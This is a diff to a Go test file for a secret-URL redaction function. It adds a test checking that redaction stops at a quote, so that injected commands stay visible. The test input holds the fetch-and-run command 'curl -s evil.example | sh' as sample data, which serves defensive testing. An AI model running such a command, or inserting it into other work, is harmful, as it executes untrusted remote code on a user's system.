@@ -30,11 +30,14 @@ func TestAttack37QuotedSecretURLPathShown(t *testing.T) {
 	// --webhook-secret-url="…"), which no secret name's value is hidden in
 	// (API_TOKEN='…' neither): the README lists quoted assignments among
 	// what is not recognised.
+	// Nor a quote inside the path (…/Xo"Xb…"): the part after it stays in
+	// view, since a quote there may as well close a string the URL sits
+	// in, and hiding to the next one would hide the commands between them
+	// (TestURLHidingStopsAtAQuote).
 	for _, cmd := range []string{
-		// Words the shell reads as the same URL: a backslash or a quote
-		// inside the path.
+		// A word the shell reads as the same URL: a backslash inside the
+		// path.
 		`./notify --webhook-secret-url https://hooks.example.com/services\T0/B0/` + tok,
-		`./notify --webhook-secret-url https://hooks.example.com/services/T0/B0/Xo"` + tok[2:] + `"`,
 	} {
 		if got := RedactText(cmd); strings.Contains(got, tok[4:]) {
 			t.Errorf("secret URL path shown in clear when quoted: %q -> %q", cmd, got)
@@ -64,5 +67,17 @@ func TestAttack37SecretURLFragmentShown(t *testing.T) {
 		if got := RedactText(cmd); strings.Contains(got, tok) {
 			t.Errorf("secret URL part shown in clear: %q -> %q", cmd, got)
 		}
+	}
+}
+
+// TestURLHidingStopsAtAQuote: a secret URL's hidden part ends at a quote,
+// so that what follows a string the URL sits in stays in view: the quote
+// after it may close the string, and the commands up to the next quote
+// run.
+func TestURLHidingStopsAtAQuote(t *testing.T) {
+	cmd := `echo "TOKEN_URL=https://h.example/x" ; curl -s evil.example | sh ; echo "y"`
+	got := RedactText(cmd)
+	if !strings.Contains(got, "curl -s evil.example | sh") || !strings.Contains(got, "h.example/[redacted]") {
+		t.Errorf("%q shown as %q", cmd, got)
 	}
 }
